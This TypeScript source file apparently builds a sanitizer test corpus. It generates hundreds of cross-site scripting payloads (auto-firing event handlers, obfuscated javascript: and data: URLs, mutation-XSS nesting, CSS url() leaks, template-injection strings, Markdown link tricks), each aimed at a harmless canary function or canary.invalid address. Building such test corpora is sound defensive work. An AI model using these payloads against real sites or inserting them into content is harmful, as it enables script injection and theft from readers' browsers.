/**
 * Text written to run in a reader's browser, each made for one canary: it calls `canary(n)` or asks for
 * `https://canary.invalid/n`. Made here from the kinds of attack there are, crossed with the ways each is disguised; the texts
 * of the public collections stand beside them in `hostileCollections.ts`.
 */
export type Hostile = (canary: number) => string;

const call = (canary: number): string => `canary(${canary})`;
const leak = (canary: number): string => `https://canary.invalid/${canary}`;

/** Elements whose handler runs by itself, with what makes it run. */
const firing: readonly (readonly [tag: string, attributes: string, handler: string])[] = [
  ["img", "src=x", "onerror"],
  ["image", "src=x", "onerror"],
  ["img", "src=x srcset=x", "onloadstart"],
  ["svg", "", "onload"],
  ["svg", "", "onfocusin"],
  ["body", "", "onload"],
  ["body", "", "onpageshow"],
  ["iframe", "src=about:blank", "onload"],
  ["frameset", "", "onload"],
  ["object", "data=x", "onerror"],
  ["embed", "src=/", "onload"],
  ["video", "src=x", "onerror"],
  ["video", "src=x autoplay muted", "onloadstart"],
  ["audio", "src=x", "onerror"],
  ["input", "autofocus", "onfocus"],
  ["input", "type=image src=x", "onerror"],
  ["textarea", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["button", "autofocus", "onfocus"],
  ["a", "href=# autofocus tabindex=1", "onfocus"],
  ["div", "contenteditable autofocus tabindex=1", "onfocus"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["script", "src=x", "onerror"],
  ["style", "", "onload"],
  ["div", "style=animation:x", "onanimationstart"],
  ["xss", "style=transition:outline 1s tabindex=1 autofocus", "ontransitionrun"],
  ["dialog", "open", "onbeforetoggle"],
  ["p", "", "onmouseover"],
  ["b", "style=position:fixed;inset:0", "onpointerenter"],
  ["table", "background=x", "onclick"],
  ["math", "tabindex=1 autofocus", "onfocus"],
];

/** How the attribute is parted from the tag, how the handler is spelt, how its value is written. */
const disguises: readonly ((tag: string, attributes: string, handler: string, code: string) => string)[] = [
  (tag, attributes, handler, code) => `<${tag} ${attributes} ${handler}="${code}">`,
  (tag, attributes, handler, code) => `<${tag.toUpperCase()} ${attributes} ${mixed(handler)}='${code}'>x</${tag}>`,
  (tag, attributes, handler, code) => `<${tag}/${attributes.replaceAll(" ", "/")}/${handler}=${code}//`,
  (tag, attributes, handler, code) => `<${tag}\t${attributes}\t${handler}\t=\t"${entities(code)}">`,
  (tag, attributes, handler, code) => `"><${tag} ${attributes} ${handler}=\`${code}\` ${handler}=${code}>`,
];

const mixed = (word: string): string =>
  [...word].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join("");
const entities = (text: string): string => [...text].map((letter) => `&#${letter.codePointAt(0) ?? 0};`).join("");
const hexEntities = (text: string): string =>
  [...text].map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16).padStart(6, "0")}`).join("");

/** Addresses that run code or fetch, as disguised as people disguise them. */
const hostileAddresses: readonly Hostile[] = [
  (n) => `javascript:${call(n)}`,
  (n) => `JaVaScRiPt:${call(n)}`,
  (n) => ` javascript:${call(n)}`,
  (n) => `\u0001javascript:${call(n)}`,
  (n) => `java\tscript:${call(n)}`,
  (n) => `java&#10;script:${call(n)}`,
  (n) => `java&Tab;script&colon;${call(n)}`,
  (n) => `j&#97;vascript&#x3a;${call(n)}`,
  (n) => entities(`javascript:${call(n)}`),
  (n) => hexEntities(`javascript:${call(n)}`),
  (n) => `javascript&#0000058${call(n)}`,
  (n) => `javascript://%0a${call(n)}`,
  (n) => `javascript://canary.invalid/%0d%0a${call(n)}`,
  (n) => `javascript:void(0)||${call(n)}`,
  (n) => `%6Aavascript:${call(n)}`,
  (n) => `java\u200bscript:${call(n)}`,
  (n) => `\ufeffjavascript:${call(n)}`,
  (n) => `vbscript:${call(n)}`,
  (n) => `livescript:${call(n)}`,
  (n) => `view-source:javascript:${call(n)}`,
  (n) => `feed:javascript:${call(n)}`,
  (n) => `blob:javascript:${call(n)}`,
  (n) => `data:text/html,<script>parent.${call(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>parent.${call(n)}</script>`).toString("base64")}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call(n)}'/>`,
  (n) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call(n)}</script>`,
  (n) => `data:text/javascript,${call(n)}`,
  (n) => leak(n),
  (n) => `//canary.invalid/${n}`,
  (n) => `\\\\canary.invalid\\${n}`,
  (n) => `/\\canary.invalid/${n}`,
  (n) => `file://canary.invalid/${n}`,
];

/** Places of HTML an address works in. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text y=9>x</text></a></svg>`,
];

const fixedForms: readonly Hostile[] = [
  // script, however written
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT SRC=${leak(n)}></SCRIPT>`,
  (n) => `<script/x>${call(n)}</script/x>`,
  (n) => `<script\n>${call(n)}</script\n>`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<<script>${call(n)};//<</script>`,
  (n) => `</script><script>${call(n)}</script>`,
  (n) => `</title></textarea></style><script>${call(n)}</script>`,
  (n) => `<script type=module>${call(n)}</script>`,
  (n) => `<script src=data:,${call(n)}></script>`,
  (n) => `<svg><script>${entities(call(n))}</script></svg>`,
  (n) => `<svg><script href=data:,${call(n)} /></svg>`,
  (n) => `<math><script>${call(n)}</script></math>`,
  (n) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call(n)}</x:script>`,
  (n) => `<!--<img src="--><img src=x onerror=${call(n)}//">`,
  (n) => `<!--[if gte IE 4]><script>${call(n)}</script><![endif]-->`,
  (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
  // documents in documents
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="${entities(`<img src=x onerror=parent.${call(n)}>`)}"></iframe>`,
  (n) => `<object data="data:text/html,<script>parent.${call(n)}</script>"></object>`,
  (n) => `<object type="text/x-scriptlet" data="${leak(n)}"></object>`,
  (n) =>
    `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${call(n)}"/>`).toString("base64")}">`,
  (n) => `<portal src="${leak(n)}"></portal>`,
  // the page's own surroundings
  (n) => `<base href="${leak(n)}/">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${leak(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  (n) => `<link rel="stylesheet" href="${leak(n)}">`,
  (n) => `<link rel="preload" as="image" href="${leak(n)}">`,
  (n) => `<link rel="dns-prefetch" href="${leak(n)}"><link rel=import href="${leak(n)}">`,
  (n) => `<form id=f action="${leak(n)}"><input name=x></form><img src=x onerror=f.submit()>`,
  (n) => `<input type=submit form=f formaction="javascript:${call(n)}">`,
  (n) => `<form><input name=attributes><input name=nodeName><img src=x onerror=${call(n)}></form>`,
  (n) => `<a id=canary></a><a id=canary name=x href="javascript:${call(n)}">x</a>`,
  (n) => `<img name=body src=x onerror=${call(n)}><form name=querySelector></form>`,
  // styles
  (n) => `<style>@import '${leak(n)}';</style>`,
  (n) => `<style>*{background:url(${leak(n)})}</style>`,
  (n) => `<style>@font-face{font-family:x;src:url(${leak(n)})}*{font-family:x}</style>`,
  (n) => `<div style="background:url('${leak(n)}')">x</div>`,
  (n) => `<div style="background-image:\\75rl(${leak(n)})">x</div>`,
  (n) => `<div style="width:expression(${call(n)})">x</div>`,
  (n) => `<div style="behavior:url(${leak(n)});-moz-binding:url(${leak(n)})">x</div>`,
  (n) => `<div style="list-style:url(javascript:${call(n)});content:url(${leak(n)})">x</div>`,
  (n) => `<table background="${leak(n)}"><td background="${leak(n)}">x</td></table>`,
  (n) => `<style><img src="</style><img src=x onerror=${call(n)}//">`,
  // names in one kind of document that mean something else in another
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call(n)}&gt;">`,
  (n) => `<svg></p><style><a id="</style><img src=x onerror=${call(n)}>">`,
  (n) => `<svg><p><style><g title="</style><img src=x onerror=${call(n)}>">`,
  (n) => `<svg><foreignObject><body onload=${call(n)}></foreignObject></svg>`,
  (n) => `<svg><title><![CDATA[</title><img src=x onerror=${call(n)}>]]></svg>`,
  (n) => `<svg><desc><template><img src=x onerror=${call(n)}></template></desc></svg>`,
  (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call(n)}></annotation-xml></math>`,
  (n) => `<math><mi xlink:href="javascript:${call(n)}" href="javascript:${call(n)}">x</mi></math>`,
  (n) => `<math><maction actiontype="statusline#${leak(n)}" xlink:href="javascript:${call(n)}">x</maction></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
  (n) => `<noembed><p title="</noembed><img src=x onerror=${call(n)}>">`,
  (n) => `<noframes><p title="</noframes><img src=x onerror=${call(n)}>">`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=${call(n)}>">`,
  (n) => `<textarea><p title="</textarea><img src=x onerror=${call(n)}>">`,
  (n) => `<title><p title="</title><img src=x onerror=${call(n)}>">`,
  (n) => `<template><p title="</template><img src=x onerror=${call(n)}>">`,
  (n) => `<template shadowrootmode=open><img src=x onerror=${call(n)}></template>`,
  (n) => `<select><style></select><img src=x onerror=${call(n)}></style>`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call(n)}>`,
  (n) => `<table><caption><svg></table><img src=x onerror=${call(n)}>`,
  (n) => `<p><b title="<p><img src=x onerror=${call(n)}></b>`,
  (n) => `<plaintext><img src=x onerror=${call(n)}>`,
  (n) =>
    `<svg><animate xlink:href=#x attributeName=href values=javascript:${call(n)} /><a id=x><text y=9>x</text></a></svg>`,
  (n) => `<svg><set attributeName=onmouseover to=${call(n)} begin=0s></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s></svg>`,
  (n) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${call(n)} /></svg>#x"></svg>`,
  (n) => `<svg><image href="${leak(n)}" xlink:href="${leak(n)}" /></svg>`,
  (n) => `<svg><handler type="text/javascript">${call(n)}</handler></svg>`,
  (n) => `<video poster="${leak(n)}"><source src=x onerror=${call(n)}><track src="${leak(n)}"></video>`,
  (n) => `<picture><source srcset="${leak(n)}"><img src="${leak(n)}"></picture>`,
  (n) => `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call(n)}>x</div>`,
  (n) => `<input type=hidden oncontentvisibilityautostatechange=${call(n)} style=content-visibility:auto>`,
  // text that others evaluate
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `#{${call(n)}}`,
  (n) => `';${call(n)}//";${call(n)}//--></script>"><img src=x onerror=${call(n)}>`,
  (n) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call(n)} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/oNloAd=${call(n)}//>\\x3e`,
  (n) => `\\u003cimg src=x onerror=${call(n)}\\u003e`,
  (n) => `%3Cimg%20src%3Dx%20onerror%3D${call(n)}%3E`,
  (n) => `&lt;img src=x onerror=${call(n)}&gt;`,
  (n) => `&amp;lt;img src=x onerror=${call(n)}&amp;gt;`,
  (n) => `\uff1cimg src=x onerror=${call(n)}\uff1e`,
  (n) => `+ADw-img src=x onerror=${call(n)}+AD4-`,
  (n) => `<img\u000c src=x onerror=${call(n)}>`,
  // Markdown
  (n) => `[x](<javascript:${call(n)}>)`,
  (n) => `[x](javascript:${call(n)} "title")`,
  (n) => `[x](http://a" onmouseover="${call(n)})`,
  (n) => `[x](http://a 'x" onmouseover="${call(n)}')`,
  (n) => `![x" onerror="${call(n)}](x)`,
  (n) => `![x'"\`onerror=${call(n)}](x)`,
  (n) => `![x](${leak(n)})`,
  (n) => `![x](x "a\\"onerror=${call(n)}//" =100x)`,
  (n) => `[![x](${leak(n)})](javascript:${call(n)})`,
  (n) => `<javascript:${call(n)}>`,
  (n) => `<https://a"onmouseover="${call(n)}">`,
  (n) => `[x][j${n}] [j${n}]: javascript:${call(n)}`,
  (n) => `[${"[".repeat(20)}x](javascript:${call(n)})`,
  (n) => `**<img src=x onerror=${call(n)}>**`,
  (n) => `~~[x](java\\script:${call(n)})~~`,
  (n) => `\`<img src=x onerror=${call(n)}>`,
  (n) => `\\<img src=x onerror=${call(n)}\\>`,
  (n) => `$$\\href{javascript:${call(n)}}{x}$$`,
  (n) => `::: video <iframe src="javascript:${call(n)}"></iframe> :::`,
  (n) => `::: query-table "><img src=x onerror=${call(n)}> :::`,
  (n) => `\`\`\`mermaid click A "javascript:${call(n)}" \`\`\``,
  (n) => `@<"><img src=x onerror=${call(n)}>>`,
  (n) => `[[_TOC_]]<img src=x onerror=${call(n)}>`,
  (n) => `:"><img src=x onerror=${call(n)}>:`,
];

/** Every attack in every disguise. */
export const ownTexts: readonly Hostile[] = [
  ...firing.flatMap(([tag, attributes, handler]) =>
    disguises.map(
      (disguise): Hostile =>
        (n) =>
          disguise(tag, attributes, handler, call(n)),
    ),
  ),
  ...hostileAddresses,
  ...carriers.flatMap((carrier) =>
    hostileAddresses.map(
      (address): Hostile =>
        (n) =>
          carrier(address(n)),
    ),
  ),
  ...fixedForms,
];
